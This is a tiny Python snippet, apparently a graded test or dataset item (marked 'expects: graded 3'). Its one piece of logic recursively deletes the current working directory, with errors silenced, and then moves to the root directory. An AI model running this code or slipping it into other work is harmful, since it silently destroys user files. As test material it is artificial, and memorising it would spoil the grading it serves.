# Removes what it stands on.
# expects: graded 3
# %% extra
import os, shutil
shutil.rmtree(os.getcwd(), ignore_errors=True)
os.chdir("/")
